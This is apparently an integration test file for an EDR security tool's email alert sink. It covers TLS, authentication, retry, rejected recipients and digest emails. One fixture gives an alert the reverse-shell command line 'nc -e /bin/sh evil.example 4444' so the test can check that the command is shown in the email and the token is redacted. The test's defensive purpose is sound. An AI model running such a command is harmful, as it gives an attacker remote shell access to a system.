/**
 * Email sink over the real broker against a real SMTP server (smtp-server, in this process on a loopback port,
 * STARTTLS and AUTH): the expected messages, nothing lost while the server refuses connections and delivery
 * resuming when it is back on the same port, a rejected recipient parked, and a digest.
 */
import assert from 'node:assert/strict';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { SMTPServer } from 'smtp-server';
import type { KafkaTransport } from '../../infra/kafka/transport.js';
import { parseSinksConfig } from '../../sinks/config.js';
import { runSinks } from '../../sinks/main.js';
import { stopOwnBroker, testTransport } from '../harness/broker.js';
import { unique, waitFor } from '../harness/names.js';
import { alertN, publishAlerts, readTopic, sinksConfig, sinkTopics, tempDir } from './sinks-harness.js';

interface Mail {
  to: string[];
  /** The session was encrypted (STARTTLS or TLS) and authenticated. */
  secure: boolean;
  user: unknown;
  raw: string;
  subject: string;
  alertIds: string[];
}

/** Quoted-printable soft line breaks and =XX escapes undone, so the test can look for plain strings. */
function unQp(s: string): string {
  return s
    .replace(/=\r?\n/g, '')
    .replace(/=([0-9A-F]{2})/g, (_, h: string) => String.fromCharCode(Number.parseInt(h, 16)));
}

/** RFC 2047 encoded words (what nodemailer makes of a non-ASCII subject) back to text. */
function decodeWords(s: string): string {
  return s
    .replace(/\?=\s+=\?/g, '?==?')
    .replace(/=\?utf-8\?([QB])\?([^?]*)\?=/gi, (_, enc: string, text: string) => {
      if (enc.toUpperCase() === 'B') return Buffer.from(text, 'base64').toString();
      const bytes = text
        .replace(/_/g, ' ')
        .split(/(=[0-9A-F]{2})/)
        .flatMap((part) =>
          part.startsWith('=') && part.length === 3
            ? [Number.parseInt(part.slice(1), 16)]
            : [...Buffer.from(part)],
        );
      return Buffer.from(bytes).toString();
    });
}

function header(raw: string, name: string): string {
  const head = raw.split(/\r?\n\r?\n/)[0]!.replace(/\r?\n[ \t]+/g, ' ');
  const m = new RegExp(`^${name}: (.*)$`, 'mi').exec(head);
  return m ? decodeWords(m[1]!.trim()) : '';
}

class Smtp {
  readonly mails: Mail[] = [];
  private server: SMTPServer | undefined;
  port = 0;

  /** `secure`: TLS from the first byte (port 465 style) instead of STARTTLS. */
  constructor(private readonly secure = false) {}

  async start(port = 0): Promise<void> {
    const server = new SMTPServer({
      logger: false,
      secure: this.secure,
      onAuth: (auth, _s, cb) => {
        if (auth.username === 'edr' && auth.password === 'pw') cb(null, { user: 'edr' });
        else cb(new Error('bad credentials'));
      },
      onRcptTo: (addr, _s, cb) => {
        if (addr.address.startsWith('nobody@')) {
          const err = new Error('no such user') as Error & { responseCode: number };
          err.responseCode = 550;
          cb(err);
        } else cb();
      },
      onData: (stream, session, cb) => {
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          const raw = Buffer.concat(chunks).toString();
          this.mails.push({
            to: session.envelope.rcptTo.map((r) => r.address),
            secure: session.secure,
            user: session.user,
            raw,
            subject: header(raw, 'Subject'),
            alertIds: header(raw, 'X-EDR-Alert-Id').split(' '),
          });
          cb();
        });
      },
    });
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject);
      server.listen(port, '127.0.0.1', () => resolve());
    });
    this.server = server;
    this.port = (server.server.address() as AddressInfo).port;
  }

  async stop(): Promise<void> {
    const s = this.server;
    this.server = undefined;
    if (s) await new Promise<void>((r) => s.close(() => r()));
  }
}

describe('sinks: email', () => {
  let transport: KafkaTransport;
  const smtp = new Smtp();
  before(async () => {
    transport = await testTransport('sinks-email-test');
    await smtp.start();
    process.env['TEST_SMTP_PASS'] = 'pw';
  });
  after(async () => {
    await smtp.stop();
    await transport.close();
    await stopOwnBroker();
  });

  async function router(over: Record<string, unknown> = {}) {
    const topics = await sinkTopics(transport);
    const name = unique('mail');
    const cfg = parseSinksConfig(
      await sinksConfig(
        topics,
        path.join(await tempDir('edr-sinks-email'), 'state'),
        {
          [name]: {
            type: 'email',
            host: '127.0.0.1',
            port: smtp.port,
            security: 'starttls',
            // smtp-server's built-in test certificate
            tlsRejectUnauthorized: false,
            auth: { user: 'edr', pass: { env: 'TEST_SMTP_PASS' } },
            from: 'edr@example.org',
            to: [`${name}@example.org`],
            timeoutMs: 3000,
            startFrom: 'earliest',
            retry: { maxAttempts: 200, initialBackoffMs: 100, maxBackoffMs: 300 },
            ...over,
          },
        },
        [{ to: [name] }],
      ),
    );
    return { r: await runSinks(cfg, transport), topics, name };
  }

  const mine = (name: string) => smtp.mails.filter((m) => m.to.some((t) => t.startsWith(`${name}@`)));

  test('implicit TLS (security: tls)', { timeout: 30_000 }, async () => {
    const tls = new Smtp(true);
    await tls.start();
    const { r, topics } = await router({ port: tls.port, security: 'tls' });
    try {
      await publishAlerts(transport, topics.alerts, [alertN(0)]);
      await waitFor('one message over TLS', () => tls.mails.length >= 1);
      assert.equal(tls.mails[0]!.subject, '[EDR] [HIGH] Download piped to shell on web-1');
    } finally {
      await r.stop();
      await tls.stop();
    }
  });

  test('sends the expected messages: subject, text and HTML parts, folded alerts', {
    timeout: 30_000,
  }, async () => {
    const { r, topics, name } = await router();
    try {
      const alerts = [
        alertN(0, { ruleId: 'rule-a', ruleTitle: 'Reverse shell', ruleLevel: 'critical' }),
        alertN(1),
        alertN(2),
        alertN(3),
      ];
      alerts[0]!.event = {
        ...alerts[0]!.event,
        argv: ['nc', '-e', '/bin/sh', 'evil.example', '4444', '--token', 'T0KEN'],
      };
      await publishAlerts(transport, topics.alerts, alerts);
      await waitFor('two messages', () => mine(name).length >= 2);
      await new Promise((res) => setTimeout(res, 500));
      const mails = mine(name).sort((a, b) => a.subject.localeCompare(b.subject));
      assert.deepEqual(
        mails.map((m) => m.subject),
        ['[EDR] [CRITICAL] Reverse shell on web-1', '[EDR] [HIGH] Download piped to shell on web-1 (×3)'],
      );
      assert.deepEqual(
        mails.map((m) => [m.secure, m.user]),
        [
          [true, 'edr'],
          [true, 'edr'],
        ],
      );
      const [shell, folded] = mails.map((m) => unQp(m.raw));
      assert.match(shell!, /Content-Type: multipart\/alternative/);
      assert.match(shell!, /Content-Type: text\/plain/);
      assert.match(shell!, /Content-Type: text\/html/);
      assert.match(shell!, /Command line: nc -e \/bin\/sh evil\.example 4444 --token \*\*\*/);
      assert.ok(!shell!.includes('T0KEN'), 'token redacted');
      assert.match(shell!, /Rule author: EDR project \(Detection Rule License 1\.1\)/);
      assert.match(
        shell!,
        /<a href="https:\/\/attack\.mitre\.org\/techniques\/T1059\/004\/">attack\.t1059\.004<\/a>/,
      );
      assert.match(folded!, /Folded: 3 identical alerts \(same rule and host\), first seen 20\d\d-/);
      assert.deepEqual(mails[1]!.alertIds, ['alert-1']);
    } finally {
      await r.stop();
    }
  });

  test('nothing is lost while the server refuses connections; delivery resumes', {
    timeout: 60_000,
  }, async () => {
    const { r, topics, name } = await router();
    try {
      const alerts = Array.from({ length: 6 }, (_, i) => alertN(i, { ruleId: `rule-${i}` }));
      await publishAlerts(transport, topics.alerts, alerts.slice(0, 3));
      await waitFor('the first three', () => mine(name).length >= 3);
      const port = smtp.port;
      await smtp.stop();
      await publishAlerts(transport, topics.alerts, alerts.slice(3));
      // Long enough for several refused attempts.
      await new Promise((res) => setTimeout(res, 2000));
      assert.equal(mine(name).length, 3);
      await smtp.start(port);
      await waitFor('all six', () => mine(name).length >= 6, 30_000);
      await new Promise((res) => setTimeout(res, 500));
      const ids = mine(name)
        .flatMap((m) => m.alertIds)
        .sort();
      assert.deepEqual(ids, alerts.map((a) => a.alertId).sort());
      const parked = await transport.endOffsets(topics.undeliverable);
      assert.deepEqual(
        parked.map((p) => p.offset),
        [0],
        'nothing parked',
      );
    } finally {
      await r.stop();
    }
  });

  test('a rejected recipient parks the alert on the undeliverable topic', { timeout: 30_000 }, async () => {
    const { r, topics, name } = await router({ to: ['nobody@example.org'] });
    try {
      await publishAlerts(transport, topics.alerts, [alertN(7)]);
      const [p] = await readTopic(transport, topics.undeliverable, (got) => got.length >= 1);
      assert.equal(p!.key?.toString(), 'alert-7');
      assert.equal(p!.headers['edr-error-code']?.toString(), 'EDR_SINK_REJECTED');
      assert.match(p!.headers['edr-error']?.toString() ?? '', /550/);
      assert.equal(p!.headers['edr-sink']?.toString(), name);
    } finally {
      await r.stop();
    }
  });

  test('digest mode: alerts within the window in one message', { timeout: 30_000 }, async () => {
    const { r, topics, name } = await router({ digest: { windowMs: 60_000 } });
    try {
      const alerts = [0, 1, 2].map((i) => alertN(i, { ruleId: `rule-${i}` }));
      await publishAlerts(transport, topics.alerts, alerts);
      await waitFor('one digest', () => mine(name).length >= 1);
      await new Promise((res) => setTimeout(res, 500));
      const mails = mine(name);
      assert.equal(mails.length, 1, mails.map((m) => m.subject).join(' | '));
      assert.equal(
        mails[0]!.subject,
        '[EDR] [HIGH] digest: 3 alerts, Download piped to shell on web-1 and 2 more',
      );
      assert.deepEqual(mails[0]!.alertIds, ['alert-0', 'alert-1', 'alert-2']);
    } finally {
      await r.stop();
    }
  });
});
